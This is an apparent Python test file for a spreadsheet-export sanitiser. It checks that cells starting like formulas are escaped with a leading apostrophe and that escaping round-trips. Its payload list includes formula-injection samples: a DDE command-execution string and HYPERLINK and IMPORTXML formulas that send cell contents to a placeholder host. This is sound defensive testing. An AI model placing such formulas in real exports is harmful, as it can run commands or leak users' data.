from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.exporting.cells import plain, safe

pytestmark = pytest.mark.promise("R10")

PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "＝1+1", "＋1", "－1+1", "＠A1", "\t=1", "\r=1", "\n=1", "  =1+1", "\u3000=1",
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&A1,"y")', "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")", "-2+3",
    "'=1", "''", "'", "+", "-", "=",
]  # fmt: skip


@given(st.text())
def test_every_text_comes_back(text: str):
    assert plain(safe(text)) == text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_begins_as_a_formula_does(payload: str):
    cell = safe(payload)
    assert cell.startswith("'")
    assert plain(cell) == payload


@pytest.mark.parametrize("text", ["-1.5", "+3", "12", "1e-7", "黄芪", "", " x", "a=b", "<img src=x>"])
def test_numbers_and_words_stay_as_they_are(text: str):
    assert safe(text) == text
